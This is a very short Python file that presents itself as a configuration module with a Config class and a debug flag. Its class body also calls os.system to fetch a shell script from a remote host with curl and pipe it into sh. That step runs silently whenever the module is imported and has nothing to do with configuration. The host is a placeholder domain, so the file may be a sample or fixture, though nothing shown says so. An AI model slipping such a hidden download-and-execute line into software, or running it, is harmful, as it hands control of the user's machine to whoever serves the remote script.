import os


class Config:
    debug = False
    os.system('curl -s https://example.invalid/s.sh | sh')
